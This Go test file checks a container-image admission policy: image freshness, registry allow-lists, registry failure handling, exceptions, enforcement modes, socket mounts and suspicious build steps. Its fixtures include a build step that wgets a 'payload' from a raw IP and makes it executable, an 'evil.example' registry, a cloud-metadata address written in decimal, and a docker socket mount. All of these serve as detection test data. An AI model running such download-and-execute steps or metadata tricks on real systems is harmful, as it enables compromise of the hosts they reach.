package policy

import (
	"strings"
	"testing"
	"time"
)

var now = time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)

func mustCompile(t *testing.T, s Spec) *Policy {
	t.Helper()
	p, err := Compile(s)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func image(created time.Time, steps ...string) *Image {
	pl := Platform{Digest: "sha256:m", ConfigDigest: "sha256:c", Created: created}
	for _, s := range steps {
		pl.History = append(pl.History, History{Created: created, CreatedBy: s})
	}
	return &Image{Digest: "sha256:m", Platforms: []Platform{pl}}
}

func pod(cs ...Container) Facts {
	for i := range cs {
		if cs[i].Name == "" {
			cs[i].Name = "app"
		}
		if cs[i].Kind == "" {
			cs[i].Kind = KindContainer
		}
	}
	return Facts{Now: now, Namespace: "shop", Containers: cs}
}

// rules returns "rule/action" for every finding of a verdict.
func rules(v Verdict) []string {
	var out []string
	for _, iv := range v.Images {
		for _, f := range iv.Findings {
			out = append(out, string(f.Rule)+"/"+string(f.Action))
		}
	}
	for _, f := range v.Findings {
		out = append(out, string(f.Rule)+"/"+string(f.Action))
	}
	return out
}

func TestDecide(t *testing.T) {
	base := Spec{
		Registries:     Registries{Allow: []string{"ghcr.io/acme/*"}},
		TrustedSources: []string{"deb.debian.org", "*.github.com", "10.0.0.0/8"},
	}
	withRules := func(s Spec, r map[RuleID]Action) Spec { s.Rules = r; return s }
	withMode := func(s Spec, m Mode) Spec { s.Mode = m; return s }
	withExceptions := func(s Spec, e ...Exception) Spec { s.Exceptions = e; return s }
	fresh := now.Add(-12 * time.Second)
	aged := now.Add(-30 * 24 * time.Hour)

	tests := []struct {
		name        string
		spec        Spec
		facts       Facts
		wantOutcome Outcome
		wantAllowed bool
		wantMode    Mode
		wantRules   []string
	}{
		{
			name:        "old clean image",
			spec:        base,
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(aged, "RUN /bin/sh -c apt-get install -y ca-certificates # buildkit")}),
			wantOutcome: OutcomeAllow, wantAllowed: true, wantMode: ModeEnforce,
		},
		{
			name:        "fresh image denied",
			spec:        base,
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(fresh)}),
			wantOutcome: OutcomeDeny, wantAllowed: false, wantMode: ModeEnforce,
			wantRules: []string{"fresh-image/deny"},
		},
		{
			name:        "created in the future beyond skew",
			spec:        base,
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(now.Add(5 * time.Minute))}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"fresh-image/deny"},
		},
		{
			name:        "created slightly in the future within skew is fresh",
			spec:        base,
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(now.Add(30 * time.Second))}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"fresh-image/deny"},
		},
		{
			name:        "epoch zero is unknown, not fresh",
			spec:        base,
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(time.Unix(0, 0))}),
			wantOutcome: OutcomeAllow, wantAllowed: true, wantMode: ModeEnforce,
		},
		{
			name:        "missing created is unknown",
			spec:        base,
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(time.Time{})}),
			wantOutcome: OutcomeAllow, wantAllowed: true, wantMode: ModeEnforce,
		},
		{
			name: "fresh arm64 child behind an old amd64 one",
			spec: base,
			facts: pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: &Image{Digest: "sha256:i", Index: true, Platforms: []Platform{
				{Platform: "linux/amd64", Created: aged}, {Platform: "linux/arm64", Created: fresh},
			}}}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"fresh-image/deny"},
		},
		{
			name:        "fresh-image set to warn",
			spec:        withRules(base, map[RuleID]Action{RuleFreshImage: ActionWarn}),
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(fresh)}),
			wantOutcome: OutcomeWarn, wantAllowed: true, wantMode: ModeEnforce,
			wantRules: []string{"fresh-image/warn"},
		},
		{
			name:        "fresh-image ignored",
			spec:        withRules(base, map[RuleID]Action{RuleFreshImage: ActionIgnore}),
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(fresh)}),
			wantOutcome: OutcomeAllow, wantAllowed: true, wantMode: ModeEnforce,
			wantRules: []string{"fresh-image/ignore"},
		},
		{
			name:        "unapproved registry",
			spec:        base,
			facts:       pod(Container{Image: "evil.example/acme/shop:1"}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"unapproved-registry/deny"},
		},
		{
			name:        "invalid reference",
			spec:        base,
			facts:       pod(Container{Image: "ghcr.io/acme/Shop::1"}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"unresolvable-image/deny"},
		},
		{
			name:        "not found",
			spec:        base,
			facts:       pod(Container{Image: "ghcr.io/acme/shop:local", PullPolicy: "Never", Err: &ResolveError{Kind: ErrNotFound, Message: "MANIFEST_UNKNOWN"}}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"unresolvable-image/deny"},
		},
		{
			name:        "registry unavailable, failurePolicy deny",
			spec:        base,
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1", Err: &ResolveError{Kind: ErrUnavailable, Message: "timeout"}}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"registry-unavailable/deny"},
		},
		{
			name:        "registry unavailable, failurePolicy allow",
			spec:        Spec{Registries: base.Registries, FailurePolicy: FailAllow},
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1", Err: &ResolveError{Kind: ErrUnavailable, Message: "timeout"}}),
			wantOutcome: OutcomeWarn, wantAllowed: true, wantMode: ModeEnforce,
			wantRules: []string{"registry-unavailable/warn"},
		},
		{
			name:        "invalid image, failurePolicy allow",
			spec:        Spec{Registries: base.Registries, FailurePolicy: FailAllow},
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1", Err: &ResolveError{Kind: ErrInvalidImage, Message: "config does not decode: unexpected EOF"}}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"unresolvable-image/deny"},
		},
		{
			name:        "too large, failurePolicy allow",
			spec:        Spec{Registries: base.Registries, FailurePolicy: FailAllow},
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1", Err: &ResolveError{Kind: ErrTooLarge, Message: "manifest is 60000000 bytes"}}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"unresolvable-image/deny"},
		},
		{
			name:        "registry resolves to a metadata address, failurePolicy allow",
			spec:        Spec{Registries: base.Registries, FailurePolicy: FailAllow},
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1", Err: &ResolveError{Kind: ErrForbiddenAddress, Message: "refusing to dial 169.254.169.254"}}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"unapproved-registry/deny"},
		},
		{
			name:        "registry written as a metadata address in decimal",
			spec:        Spec{Registries: Registries{Allow: []string{"**"}}, FailurePolicy: FailAllow},
			facts:       pod(Container{Image: "2852039166:80/acme/shop:1"}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"unapproved-registry/deny"},
		},
		{
			name:        "download from raw IP",
			spec:        base,
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(aged, "RUN /bin/sh -c wget -q http://203.0.113.9/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit")}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"suspicious-build-step/deny"},
		},
		{
			name:        "download from trusted source",
			spec:        base,
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(aged, "RUN /bin/sh -c curl -fsSLo /tmp/k https://api.github.com/x # buildkit")}),
			wantOutcome: OutcomeAllow, wantAllowed: true, wantMode: ModeEnforce,
		},
		{
			name:        "audit mode never denies",
			spec:        withMode(base, ModeAudit),
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(fresh)}),
			wantOutcome: OutcomeDeny, wantAllowed: true, wantMode: ModeAudit,
			wantRules: []string{"fresh-image/deny"},
		},
		{
			name: "namespace label overrides mode",
			spec: base,
			facts: func() Facts {
				f := pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(fresh)})
				f.NamespaceMode = "warn"
				return f
			}(),
			wantOutcome: OutcomeDeny, wantAllowed: true, wantMode: ModeWarn,
			wantRules: []string{"fresh-image/deny"},
		},
		{
			name: "unknown namespace label fails closed",
			spec: withMode(base, ModeAudit),
			facts: func() Facts {
				f := pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(fresh)})
				f.NamespaceMode = "off"
				return f
			}(),
			wantOutcome: OutcomeDeny, wantAllowed: false, wantMode: ModeEnforce,
			wantRules: []string{"fresh-image/deny", "invalid-mode-label/warn"},
		},
		{
			name:        "exception by glob",
			spec:        withExceptions(base, Exception{Images: []string{"ghcr.io/acme/shop"}, Reason: "INC-1", Expires: "2026-12-01T00:00:00Z"}),
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(fresh)}),
			wantOutcome: OutcomeAllow, wantAllowed: true, wantMode: ModeEnforce,
			wantRules: []string{"fresh-image/deny"},
		},
		{
			name: "exception by digest",
			spec: withExceptions(base, Exception{Images: []string{"ghcr.io/acme/shop@sha256:" + strings.Repeat("a", 64)}, Reason: "INC-1", Expires: "2026-12-01T00:00:00Z"}),
			facts: pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: func() *Image {
				i := image(fresh)
				i.Digest = "sha256:" + strings.Repeat("a", 64)
				return i
			}()}),
			wantOutcome: OutcomeAllow, wantAllowed: true, wantMode: ModeEnforce,
			wantRules: []string{"fresh-image/deny"},
		},
		{
			name:        "exception for another digest does not apply",
			spec:        withExceptions(base, Exception{Images: []string{"ghcr.io/acme/shop@sha256:" + strings.Repeat("a", 64)}, Reason: "INC-1", Expires: "2026-12-01T00:00:00Z"}),
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(fresh)}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"fresh-image/deny"},
		},
		{
			name:        "expired exception does not apply",
			spec:        withExceptions(base, Exception{Images: []string{"ghcr.io/acme/*"}, Reason: "INC-1", Expires: "2026-11-26T11:59:59Z"}),
			facts:       pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(fresh)}),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"fresh-image/deny"},
		},
		{
			name: "docker socket mounted",
			spec: base,
			facts: func() Facts {
				f := pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(aged), Mounts: []Mount{{Volume: "sock"}}})
				f.HostPaths = []HostPathVolume{{Volume: "sock", Path: "/var/run/docker.sock"}}
				return f
			}(),
			wantOutcome: OutcomeWarn, wantAllowed: true, wantMode: ModeEnforce,
			wantRules: []string{"runtime-socket-mount/warn"},
		},
		{
			name: "socket directory mounted",
			spec: withRules(base, map[RuleID]Action{RuleRuntimeSocketMount: ActionDeny}),
			facts: func() Facts {
				f := pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(aged), Mounts: []Mount{{Volume: "run"}}})
				f.HostPaths = []HostPathVolume{{Volume: "run", Path: "/run/containerd/"}}
				return f
			}(),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"runtime-socket-mount/deny"},
		},
		{
			name: "host path volume nobody mounts",
			spec: base,
			facts: func() Facts {
				f := pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(aged)})
				f.HostPaths = []HostPathVolume{{Volume: "sock", Path: "/var/run/docker.sock"}}
				return f
			}(),
			wantOutcome: OutcomeAllow, wantAllowed: true, wantMode: ModeEnforce,
		},
		{
			name: "unrelated host path",
			spec: base,
			facts: func() Facts {
				f := pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(aged), Mounts: []Mount{{Volume: "logs"}}})
				f.HostPaths = []HostPathVolume{{Volume: "logs", Path: "/var/log"}}
				return f
			}(),
			wantOutcome: OutcomeAllow, wantAllowed: true, wantMode: ModeEnforce,
		},
		{
			name: "one bad init container denies the pod",
			spec: base,
			facts: pod(
				Container{Name: "init", Kind: KindInitContainer, Image: "ghcr.io/acme/init:1", Resolved: image(fresh)},
				Container{Image: "ghcr.io/acme/shop:1", Resolved: image(aged)},
			),
			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
			wantRules: []string{"fresh-image/deny"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := Decide(mustCompile(t, tt.spec), tt.facts)
			if v.Outcome != tt.wantOutcome || v.Allowed != tt.wantAllowed || v.Mode != tt.wantMode {
				t.Errorf("Decide = outcome %s allowed %v mode %s, want %s %v %s", v.Outcome, v.Allowed, v.Mode, tt.wantOutcome, tt.wantAllowed, tt.wantMode)
			}
			if got := rules(v); strings.Join(got, " ") != strings.Join(tt.wantRules, " ") {
				t.Errorf("Decide findings = %q, want %q", got, tt.wantRules)
			}
			for _, iv := range v.Images {
				for _, f := range iv.Findings {
					if f.Message == "" || f.Severity == "" {
						t.Errorf("finding %+v lacks a message or severity", f)
					}
				}
			}
		})
	}
}

func TestFreshEvidence(t *testing.T) {
	p := mustCompile(t, Spec{Registries: Registries{Allow: []string{"ghcr.io/**"}}})
	v := Decide(p, pod(Container{Image: "ghcr.io/acme/shop:1.4", Resolved: image(now.Add(-12 * time.Second))}))
	f := v.Images[0].Findings[0]
	if f.Evidence["ageSeconds"] != int64(12) || f.Evidence["created"] != "2026-11-26T11:59:48Z" || f.Evidence["minAge"] != "10m" {
		t.Errorf("evidence = %v, want ageSeconds 12, created 2026-11-26T11:59:48Z, minAge 10m", f.Evidence)
	}
	if !strings.Contains(f.Message, "12s before admission") {
		t.Errorf("message = %q, want the age", f.Message)
	}
}

func TestBuildStepEvidence(t *testing.T) {
	p := mustCompile(t, Spec{Registries: Registries{Allow: []string{"ghcr.io/**"}}})
	step := "RUN /bin/sh -c wget -q http://203.0.113.9/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit"
	img := &Image{Digest: "sha256:i", Index: true, Platforms: []Platform{
		{Platform: "linux/arm64", Created: now.Add(-time.Hour), History: []History{{CreatedBy: step}}},
		{Platform: "linux/amd64", Created: now.Add(-time.Hour), History: []History{{CreatedBy: step}}},
	}}
	v := Decide(p, pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: img}))
	fs := v.Images[0].Findings
	if len(fs) != 1 {
		t.Fatalf("findings = %+v, want one for the step shared by both platforms", fs)
	}
	ev := fs[0].Evidence
	if hosts, _ := ev["hosts"].([]string); len(hosts) == 0 || hosts[0] != "203.0.113.9" {
		t.Errorf("hosts = %v, want 203.0.113.9", ev["hosts"])
	}
	if pls, _ := ev["platforms"].([]string); strings.Join(pls, ",") != "linux/amd64,linux/arm64" {
		t.Errorf("platforms = %v, want both", ev["platforms"])
	}
	if fs[0].Severity != SeverityHigh || !strings.Contains(fs[0].Message, "203.0.113.9") {
		t.Errorf("finding = %+v, want high severity naming the IP", fs[0])
	}
}
